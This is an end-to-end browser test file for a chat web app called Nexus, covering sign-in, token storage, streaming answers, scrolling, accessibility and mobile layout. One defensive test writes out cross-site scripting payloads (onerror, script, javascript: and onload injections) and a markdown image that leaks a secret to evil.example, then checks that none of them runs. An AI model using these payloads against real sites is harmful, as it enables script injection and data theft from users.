import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { launch, Visit } from "./browser.ts";
import { Nexus } from "./nexus.ts";
import { Provider } from "./provider.ts";

let browser: Browser;
let provider: Provider;
let nexus: Nexus;

beforeAll(async () => {
  provider = await Provider.start();
  [nexus, browser] = await Promise.all([Nexus.start(provider.url), launch()]);
});

afterAll(async () => {
  await browser?.close();
  await nexus?.stop();
  provider?.stop();
});

const DESKTOP = { viewport: { width: 1280, height: 800 } };
const PHONE = { viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true };

/** Answers with the scripted model, whatever the person's own model is. */
async function pickScripted(visit: Visit): Promise<void> {
  await visit.page.getByLabel("Model for the next message").selectOption("local");
}

test("the first screen offers a key, tells how to get a token, and refuses what is none", async () => {
  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
  const { page } = visit;
  await page.getByRole("button", { name: "Make my key" }).waitFor();
  await visit.expectAccessible();
  await visit.picture("sign-in");

  await page.getByRole("button", { name: "I have a token" }).click();
  await page.getByText("nexus identity new", { exact: true }).waitFor();
  await visit.expectAccessible();
  await page.getByLabel("Your token").fill("0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed");
  await page.keyboard.press("Enter");
  await page.getByText("This is a public key").waitFor();

  await page.getByLabel("Your token").fill(`nxd_${"a".repeat(49)}`);
  await page.keyboard.press("Enter");
  await page.getByText("This token is not accepted").waitFor();
  await visit.expectAccessible();
  await visit.end();
});

test("P9: to be signed out, or no member, is no error in the console", async () => {
  const errors: string[] = [];
  const refused: string[] = [];
  const listen = async (page: Page): Promise<void> => {
    page.on("console", (message) => {
      if (message.type() === "error") errors.push(message.text());
    });
    page.on("response", (response) => {
      if (response.status() >= 400) refused.push(`${response.status()} ${response.url()}`);
    });
  };
  const { token } = await nexus.visitor();
  const visit = await Visit.begin(browser, nexus.url, DESKTOP, listen);
  const { page } = visit;
  await page.getByRole("button", { name: "Make my key" }).waitFor();
  // A session that has ended while nobody looked.
  await page.evaluate(() => sessionStorage.setItem("nexus.token", `nxd_${"a".repeat(49)}`));
  await page.reload();
  await page.getByText("This token is not accepted any more.").waitFor();
  await visit.signIn(token);
  await page.getByText("Welcome, visitor.").waitFor();
  await page.reload();
  await page.getByText("Welcome, visitor.").waitFor();
  await page.getByRole("button", { name: /My settings/ }).click();
  await page.getByRole("dialog").getByText("Register it with the command").waitFor();
  await page.keyboard.press("Escape");
  await page.evaluate(() => window.dispatchEvent(new Event("focus")));
  await page.evaluate(() => fetch("/livez"));
  expect([errors, refused]).toEqual([[], []]);
  await visit.end();
});

test("P9: whoever sends something while they read above sees what comes of it", async () => {
  const { token } = await nexus.member();
  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
  const { page } = visit;
  await visit.signIn(token);
  await pickScripted(visit);
  await provider.says({ answer: Array.from({ length: 60 }, (_, index) => `Paragraph ${index}.\n\n`).join("") });
  await visit.askAndWait("A long one");
  const log = page.getByRole("log");
  const toTop = async (): Promise<void> => {
    await log.hover();
    await page.mouse.wheel(0, -10_000);
    await page.getByRole("button", { name: "Newest" }).waitFor();
  };
  for (const [said, seen] of [["/help", page.getByRole("table")], ["Short", page.getByText("A short answer.").first()]] as const) {
    await toTop();
    await provider.says({ answer: "A short answer." });
    await visit.ask(said);
    await seen.waitFor();
    await expect.poll(() => log.evaluate((node) => node.scrollHeight - node.scrollTop - node.clientHeight)).toBeLessThan(2);
    expect(await page.getByRole("button", { name: "Newest" }).count()).toBe(0);
  }
  await visit.end();
});

test("P9: a screen reader is told the words of an answer, without their marks", async () => {
  const { token } = await nexus.member();
  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
  await visit.signIn(token);
  await pickScripted(visit);
  await provider.says({ answer: "## A plan\n\n- **First**, read [the book](https://example.org/b)\n- Then `rest_well`" });
  await visit.askAndWait("Plan");
  const spoken = visit.page.locator("[aria-live=polite]", { hasText: "Answer:" });
  expect(await spoken.textContent()).toBe("Answer: A plan\nFirst, read the book\nThen rest_well");
  await visit.end();
});

test("the token stays with the tab, or longer only when asked to, and signing out forgets it", async () => {
  const { token } = await nexus.member();
  const visit = await Visit.begin(browser, nexus.url);
  const { page } = visit;
  const kept = (): Promise<boolean[]> =>
    page.evaluate(() => [sessionStorage, localStorage].map((one) => one.getItem("nexus.token") !== null));

  await visit.signIn(token);
  expect(await kept()).toEqual([true, false]);
  await page.getByRole("button", { name: "Sign out" }).click();
  expect(await kept()).toEqual([false, false]);

  await visit.signIn(token, true);
  expect(await kept()).toEqual([false, true]);
  await page.getByRole("button", { name: "Sign out" }).click();
  expect(await kept()).toEqual([false, false]);
  expect(page.url()).not.toContain("nxd_");
  await visit.end();
});

test("a member asks, sees the answer, and finds both again after a reload", async () => {
  const { token } = await nexus.member();
  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
  const { page } = visit;
  await visit.signIn(token);
  await page.getByText("answers you").waitFor();
  await visit.expectAccessible();
  await visit.picture("welcome");

  const message = page.getByLabel("Your message");
  await message.fill("First line");
  await page.keyboard.press("Shift+Enter");
  await page.keyboard.type("second line");
  expect(await message.inputValue()).toBe("First line\nsecond line");
  await page.keyboard.press("Enter");
  await page.getByRole("article").getByText("a mirror and not an AI").waitFor();
  await page.getByText("at builtin").waitFor();
  expect(await page.locator("[aria-live=polite]", { hasText: "Answer: I am" }).count()).toBe(1);

  await page.reload();
  await page.getByText("a mirror and not an AI").waitFor();
  await page.getByText("First line second line").first().waitFor();
  expect(await page.getByRole("log").getByRole("article").count()).toBe(1);
  await visit.expectAccessible();
  await visit.end();
});

test("words appear while the model still speaks, and what it thought is folded", async () => {
  const { token } = await nexus.member();
  const visit = await Visit.begin(browser, nexus.url);
  const { page } = visit;
  await visit.signIn(token);
  await pickScripted(visit);
  await provider.says({ reasoning: "A secret thought.", answer: "One two three four five", holdAfter: 3 });
  await visit.ask("Count");
  await page.getByText(/One two/).waitFor();
  await page.getByRole("button", { name: "Stop" }).waitFor();
  expect(await page.getByText("A secret thought.").isVisible()).toBe(false);
  expect(await page.getByText("five").count()).toBe(0);

  await provider.goOn();
  await page.getByText("One two three four five").first().waitFor();
  await page.getByText("1,204 tokens in, 187 out").waitFor();
  await page.getByText("What it thought first").click();
  await page.getByText("A secret thought.").waitFor();
  await visit.end();
});

test("an answer that breaks off says so, and the reader can ask again", async () => {
  const { token } = await nexus.member();
  const visit = await Visit.begin(browser, nexus.url);
  await visit.signIn(token);
  await pickScripted(visit);
  await provider.says({ answer: "This will not end well", holdAfter: 3, breakOff: true });
  await visit.ask("Try");
  await visit.page.getByText(/This will/).waitFor();
  await provider.goOn();
  await visit.page.getByRole("article").getByText("The answer broke off").waitFor();
  await provider.says({ answer: "A second try." });
  await visit.page.getByRole("button", { name: "Ask again" }).click();
  await visit.page.getByRole("article").getByText("A second try.").waitFor();
  expect(await visit.page.getByRole("article").count()).toBe(1);
  await visit.expectAccessible();
  await visit.end();
});

test("P9: new words do not pull a reader back who has scrolled up, and the way back covers nothing", async () => {
  const { token } = await nexus.member();
  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
  const { page } = visit;
  await visit.signIn(token);
  await pickScripted(visit);
  // Three pieces each.
  const long = Array.from({ length: 60 }, (_, index) => `Paragraph ${index}.\n\n`).join("");
  await provider.says({ answer: `${long}${long}`, holdAfter: 180 });
  await visit.ask("A long one");
  const log = page.getByRole("log");
  const fromEnd = (): Promise<number> =>
    log.evaluate((node) => node.scrollHeight - node.scrollTop - node.clientHeight);
  await page.getByText("Paragraph 58.").first().waitFor();
  await expect.poll(fromEnd).toBeLessThan(2);

  await log.hover();
  await page.mouse.wheel(0, -700);
  await page.getByRole("button", { name: "Newest" }).waitFor();
  // P9: the button covers no text.
  const bottom = await log.evaluate((node) => node.getBoundingClientRect().bottom);
  expect((await page.getByRole("button", { name: "Newest" }).boundingBox())!.y).toBeGreaterThanOrEqual(bottom);
  const place = await log.evaluate((node) => node.scrollTop);
  await provider.goOn();
  await page.getByText("Paragraph 59.").nth(1).waitFor();
  expect(await log.evaluate((node) => node.scrollTop)).toBe(place);

  await page.getByRole("button", { name: "Newest" }).click();
  await expect.poll(fromEnd).toBeLessThan(2);
  await visit.end();
});

test("older messages are loaded on request, and the reader stays where they were", async () => {
  const { token } = await nexus.member();
  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
  const { page } = visit;
  await page.evaluate(async (bearer) => {
    for (let index = 0; index < 30; index += 1) {
      const headers = { Authorization: `Bearer ${bearer}`, "Content-Type": "application/json" };
      const body = JSON.stringify({ content: `Question ${index}.` });
      await (await fetch("/api/v1/chat", { method: "POST", headers, body })).text();
    }
  }, token);
  await visit.signIn(token);
  const articles = page.getByRole("article");
  await expect.poll(() => articles.count()).toBe(25);
  await page.getByRole("button", { name: "Load older messages" }).click();
  await expect.poll(() => articles.count()).toBe(30);
  expect(await page.getByRole("button", { name: "Load older messages" }).count()).toBe(0);
  expect(await page.getByText("Question 5.").first().isVisible()).toBe(true);
  await visit.end();
});

test("the settings tell where each value comes from, and what may be changed", async () => {
  const { key, token } = await nexus.member();
  await nexus.cli("config", "set", key, "temperature", "0.5");
  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
  const { page } = visit;
  await visit.signIn(token);
  await page.getByRole("button", { name: /My settings/ }).click();
  const card = visit.card("Temperature");
  await card.getByText("from you").waitFor();
  expect(await card.innerText()).toMatch(/0\.5[\s\S]*Instead of\s+0\.\d, the default of this server/);

  const rules = visit.card("Rules");
  await rules.getByText("This server does not let people change this text.").waitFor();
  expect(await rules.getByRole("button", { name: "Change" }).count()).toBe(0);
  await rules.getByText("Read the text").click();
  await visit.expectAccessible();
  await page.keyboard.press("Escape");
  expect(await page.getByRole("dialog").count()).toBe(0);
  await visit.end();
});

/** The boxes of what stands in a row, or wraps: none covers another, and all are in the window. */
async function expectApart(page: Page, selector: string): Promise<void> {
  const wrong = await page.evaluate((rows) => {
    const found: string[] = [];
    for (const row of document.querySelectorAll(rows)) {
      // Without what only screen readers see.
      const seen = [...row.children].filter((child) => getComputedStyle(child).position !== "absolute");
      const boxes = seen.map((child) => ({ name: child.textContent!.trim(), box: child.getBoundingClientRect() }));
      for (const [index, { name, box }] of boxes.entries()) {
        if (box.width === 0) continue;
        if (box.left < 0 || box.right > innerWidth) found.push(`${name} leaves the window`);
        for (const other of boxes.slice(index + 1)) {
          const isOver = box.left < other.box.right && other.box.left < box.right && box.top < other.box.bottom && other.box.top < box.bottom;
          if (isOver) found.push(`${name} covers ${other.name}`);
        }
      }
    }
    return found;
  }, selector);
  expect(wrong, selector).toEqual([]);
}

test.each([[390, 844], [320, 568]])("P9: on a phone of %i × %i nothing covers anything, and no name is cut", async (width, height) => {
  const { key, token } = await nexus.member();
  await nexus.cli("config", "set", key, "model", "local");
  const visit = await Visit.begin(browser, nexus.url, { viewport: { width, height }, hasTouch: true, isMobile: true });
  const { page } = visit;
  const isWhole = (selector: string): Promise<boolean> =>
    page.locator(selector).first().evaluate((node) => node.scrollWidth <= node.clientWidth);
  await page.getByRole("button", { name: "I have a token" }).click();
  await page.getByLabel("Your token").waitFor();
  const [title, back] = [await page.locator("#card-title").boundingBox(), await page.getByRole("button", { name: "Back" }).boundingBox()];
  expect(back!.x - (title!.x + title!.width) >= 8 || back!.y >= title!.y + title!.height - 2).toBe(true);
  await page.getByRole("button", { name: "Back" }).click();

  await visit.signIn(token);
  await page.getByText("answers you").waitFor();
  // The greeting is read from its beginning.
  expect(await page.getByRole("log").evaluate((node) => node.scrollTop)).toBe(0);
  expect(await isWhole("h1")).toBe(true);
  await page.getByRole("button", { name: /My settings/ }).waitFor();
  await visit.expectAccessible();
  await visit.picture(`welcome-${width}`);

  await provider.says({ answer: "One two three four", holdAfter: 2 });
  await visit.ask("Count");
  await page.getByText(/One two/).first().waitFor();
  for (const rows of ["header", "header .actions", "form .row"]) await expectApart(page, rows);
  expect(await page.getByLabel("Model for the next message").evaluate((node) => node.clientWidth)).toBeGreaterThan(90);
  await visit.expectAccessible();
  await visit.picture(`stop-${width}`);
  await provider.goOn();
  await page.getByText("1,204 tokens in, 187 out").waitFor();
  await expectApart(page, "article footer");
  await visit.ask("/help");
  await page.getByRole("table").waitFor();
  // A command is one word, and no letter of it stands alone.
  const heights = await page.locator("td.first").evaluateAll((cells) =>
    cells.filter((cell) => !/\s/.test(cell.textContent!)).map((cell) => {
      const range = document.createRange();
      range.selectNodeContents(cell);
      return range.getClientRects().length;
    }),
  );
  expect(Math.max(...heights)).toBe(1);
  await visit.expectNoSidewaysScrolling();
  await visit.picture(`help-${width}`);
  await visit.end();
});

test("P9: formulas are as large as the text that they stand in", async () => {
  const { token } = await nexus.member();
  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
  const { page } = visit;
  await visit.signIn(token);
  await pickScripted(visit);
  await provider.says({ answer: "# Title \\(a\\)\n\nText \\(b\\)\n\n| cell |\n|---|\n| \\(c\\) |\n\n$$d$$" });
  await visit.askAndWait("Formulas");
  await expect.poll(() => page.locator("math").count()).toBe(4);
  const sizes = await page.locator("math").evaluateAll((nodes) =>
    nodes.map((node) => [node, node.parentElement!].map((one) => getComputedStyle(one).fontSize)),
  );
  for (const [formula, around] of sizes) expect(formula).toBe(around);
  await visit.end();
});

test("a visitor is told how to become a member, and nothing is kept", async () => {
  const { token } = await nexus.visitor();
  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
  const { page } = visit;
  await visit.signIn(token);
  await page.getByText("Welcome, visitor.").waitFor();
  await visit.ask("May I come in?");
  await page.getByRole("article").getByText("nexus identity new KEY").waitFor();
  await visit.expectAccessible();
  await page.reload();
  await page.getByText("Welcome, visitor.").waitFor();
  expect(await page.getByRole("article").count()).toBe(0);
  await visit.end();
});

test("nothing that a question, a persona or a model says is ever run", async () => {
  const { key, token } = await nexus.member();
  const payload = [
    "<img src=x onerror=\"window.hacked=1;alert(1)\">",
    "<script>window.hacked=1</script>",
    "[click](javascript:window.hacked=1)",
    "![leak](https://evil.example/?q=secret)",
    "<svg onload=window.hacked=1>",
  ].join("\n\n");
  await nexus.cli("prompt", "set", key, "persona", payload);
  const visit = await Visit.begin(browser, nexus.url);
  const { page } = visit;
  await visit.signIn(token);
  await visit.askAndWait(payload);
  await pickScripted(visit);
  await provider.says({ answer: payload, reasoning: payload });
  await visit.askAndWait(payload);
  await page.getByText("What it thought first").click();
  await page.getByRole("button", { name: /My settings/ }).click();
  await page.getByText("Read the text").first().click();
  await page.keyboard.press("Escape");
  for (const link of await page.getByRole("link").all()) {
    expect(await link.getAttribute("href")).toMatch(/^https:\/\/evil\.example\//);
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  }
  expect(await page.locator("img, iframe, object, [onerror], [onload]").count()).toBe(0);
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  await visit.end();
});

test("the page is whole on a small phone and in the dark, and a choice of colours is kept", async () => {
  const { token } = await nexus.member();
  for (const [name, options] of [
    ["phone", PHONE],
    ["dark", { ...DESKTOP, colorScheme: "dark" as const }],
  ] as const) {
    const visit = await Visit.begin(browser, nexus.url, options);
    await visit.expectNoSidewaysScrolling();
    await visit.signIn(token);
    await visit.askAndWait("How do you look here?");
    await visit.expectNoSidewaysScrolling();
    await visit.expectAccessible();
    await visit.picture(name);
    await visit.page.getByRole("button", { name: /My settings/ }).click();
    await visit.page.getByText("Template version").waitFor();
    await visit.expectNoSidewaysScrolling();
    await visit.expectAccessible();
    await visit.picture(`${name}-settings`);
    await visit.page.keyboard.press("Escape");
    const colours = visit.page.getByRole("button", { name: /^Colours/ });
    await colours.click();
    await colours.click();
    await visit.page.reload();
    expect(await visit.page.evaluate(() => document.documentElement.dataset.theme)).toBe("dark");
    await visit.end();
  }
});
